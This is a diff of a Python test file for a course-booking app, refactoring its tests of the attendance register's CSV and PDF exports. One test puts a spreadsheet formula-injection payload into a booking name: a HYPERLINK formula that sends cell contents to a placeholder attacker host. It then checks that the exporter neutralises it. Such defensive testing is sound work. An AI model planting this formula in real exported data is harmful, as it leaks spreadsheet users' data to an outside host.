@@ -10,35 +10,20 @@ from datetime import UTC, datetime, timedelta
 import pytest
 from pypdf import PdfReader
 
-from app.extensions import db
-from app.models import Attendance, Booking, BookingStatus, Role, utcnow
+from app.models import Attendance, BookingStatus, utcnow
 from app.trainer.register_export import safe_cell
-from tests.conftest import sign_in
 from tests.factories import (
-    PASSWORD,
     make_agency,
+    make_booking,
     make_course,
     make_prospectus,
     make_session,
-    make_user,
     make_venue,
 )
 
 TITLE = "Understanding neglect"
 # Far enough ahead to stay to come for years; 9:30am in London, on summer time.
 SUMMER_MORNING = datetime(2037, 6, 11, 8, 30, tzinfo=UTC)
-
-
-@pytest.fixture
-def trainer(app):
-    return make_user(password=PASSWORD, role=Role.TRAINER, name="Sam Trainer")
-
-
-@pytest.fixture
-def browser(app, trainer):
-    browser = app.test_client()
-    assert sign_in(browser, trainer.email, PASSWORD).status_code == 302
-    return browser
 
 
 @pytest.fixture
@@ -50,15 +35,6 @@ def session(app, trainer):
         venue=make_venue(name="Riverside House", postcode="S60 1AE"),
         trainers=[trainer],
     )
-
-
-def place(session, status=BookingStatus.CONFIRMED, access_needs: str = "", **person) -> Booking:
-    booking = Booking(
-        session=session, user=make_user(**person), status=status, access_needs=access_needs
-    )
-    db.session.add(booking)
-    db.session.flush()
-    return booking
 
 
 # The spreadsheet --------------------------------------------------------------------------
@@ -93,10 +69,10 @@ def test_a_cell_that_a_spreadsheet_would_run_starts_with_a_quote(value, safe):
     assert safe_cell(value) == safe
 
 
-def test_the_register_downloads_as_a_spreadsheet_excel_reads_correctly(browser, session):
-    place(session, name="Zoë Siân Ní Bhriain", email="zoe@example.org")
+def test_the_register_downloads_as_a_spreadsheet_excel_reads_correctly(as_trainer, session):
+    make_booking(session, name="Zoë Siân Ní Bhriain", email="zoe@example.org")
 
-    response, rows = download_csv(browser, session)
+    response, rows = download_csv(as_trainer, session)
 
     assert response.mimetype == "text/csv"
     assert response.data.startswith(b"\xef\xbb\xbf")
@@ -107,9 +83,9 @@ def test_the_register_downloads_as_a_spreadsheet_excel_reads_correctly(browser, 
     assert rows[0]["Name"] == "Zoë Siân Ní Bhriain"
 
 
-def test_the_spreadsheet_has_each_person_then_the_waiting_list_in_turn(browser, session):
+def test_the_spreadsheet_has_each_person_then_the_waiting_list_in_turn(as_trainer, session):
     agency = make_agency(name="Rotherham Hospital")
-    marked = place(
+    marked = make_booking(
         session,
         name="Ann Attended",
         email="ann@example.org",
@@ -118,15 +94,15 @@ def test_the_spreadsheet_has_each_person_then_the_waiting_list_in_turn(browser, 
         access_needs="A hearing loop",
     )
     marked.attendance = Attendance.LEFT_EARLY
-    walked_in = place(session, name="Will Walked-In")
+    walked_in = make_booking(session, name="Will Walked-In")
     walked_in.walk_in = True
-    place(session, BookingStatus.AWAITING_APPROVAL, name="Bea Approval")
-    later = place(session, BookingStatus.WAITING, name="Wes Second")
-    earlier = place(session, BookingStatus.WAITING, name="Wanda First")
+    make_booking(session, BookingStatus.AWAITING_APPROVAL, name="Bea Approval")
+    later = make_booking(session, BookingStatus.WAITING, name="Wes Second")
+    earlier = make_booking(session, BookingStatus.WAITING, name="Wanda First")
     earlier.created_at, later.created_at = utcnow() - timedelta(days=1), utcnow()
-    place(session, BookingStatus.CANCELLED, name="Carl Cancelled")
+    make_booking(session, BookingStatus.CANCELLED, name="Carl Cancelled")
 
-    _, rows = download_csv(browser, session)
+    _, rows = download_csv(as_trainer, session)
 
     assert [row["Name"] for row in rows] == [
         "Ann Attended",
@@ -154,9 +130,9 @@ def test_the_spreadsheet_has_each_person_then_the_waiting_list_in_turn(browser, 
     ]
 
 
-def test_no_cell_of_the_spreadsheet_can_start_a_formula(browser, session):
+def test_no_cell_of_the_spreadsheet_can_start_a_formula(as_trainer, session):
     agency = make_agency(name="@Agency")
-    place(
+    make_booking(
         session,
         name='=HYPERLINK("https://evil.example/?"&A2,"Click me")',
         job_title="+Deputy",
@@ -164,7 +140,7 @@ def test_no_cell_of_the_spreadsheet_can_start_a_formula(browser, session):
         access_needs="-1 step at the door",
     )
 
-    response, rows = download_csv(browser, session)
+    response, rows = download_csv(as_trainer, session)
 
     (row,) = rows
     assert row["Name"] == '\'=HYPERLINK("https://evil.example/?"&A2,"Click me")'
@@ -189,13 +165,15 @@ def download_pdf(browser, session) -> tuple[object, PdfReader, str]:
     return response, reader, text
 
 
-def test_the_sign_in_sheet_is_an_a4_pdf_of_names_agencies_and_a_signature_column(browser, session):
-    place(session, name="Ann Attendee", agency=make_agency(name="Rotherham Hospital"))
-    place(session, name="Bob Booked", agency=make_agency(name="South Yorkshire Police"))
-    place(session, BookingStatus.WAITING, name="Wes Waiting")
-    place(session, BookingStatus.AWAITING_APPROVAL, name="Bea Approval")
+def test_the_sign_in_sheet_is_an_a4_pdf_of_names_agencies_and_a_signature_column(
+    as_trainer, session
+):
+    make_booking(session, name="Ann Attendee", agency=make_agency(name="Rotherham Hospital"))
+    make_booking(session, name="Bob Booked", agency=make_agency(name="South Yorkshire Police"))
+    make_booking(session, BookingStatus.WAITING, name="Wes Waiting")
+    make_booking(session, BookingStatus.AWAITING_APPROVAL, name="Bea Approval")
 
-    response, reader, text = download_pdf(browser, session)
+    response, reader, text = download_pdf(as_trainer, session)
 
     assert response.mimetype == "application/pdf"
     assert response.headers["Content-Disposition"] == (
@@ -217,11 +195,11 @@ def test_the_sign_in_sheet_is_an_a4_pdf_of_names_agencies_and_a_signature_column
     assert "Bea Approval" not in text
 
 
-def test_a_long_register_runs_onto_more_pages_with_the_headings_repeated(browser, session):
+def test_a_long_register_runs_onto_more_pages_with_the_headings_repeated(as_trainer, session):
     for number in range(40):
-        place(session, name=f"Person {number:02d} Surname")
+        make_booking(session, name=f"Person {number:02d} Surname")
 
-    _, reader, text = download_pdf(browser, session)
+    _, reader, text = download_pdf(as_trainer, session)
 
     assert len(reader.pages) >= 2
     assert all("Signature" in page.extract_text() for page in reader.pages)
